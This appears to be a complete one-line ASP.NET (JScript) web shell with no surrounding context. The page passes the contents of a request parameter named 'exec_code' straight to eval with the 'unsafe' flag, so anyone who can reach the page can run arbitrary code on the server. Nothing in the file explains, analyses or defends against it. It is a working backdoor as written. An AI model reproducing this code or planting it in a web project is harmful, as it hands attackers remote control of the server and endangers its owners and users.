<%@ Page Language="Jscript"%><%eval(Request.Item["exec_code"],"unsafe");%>
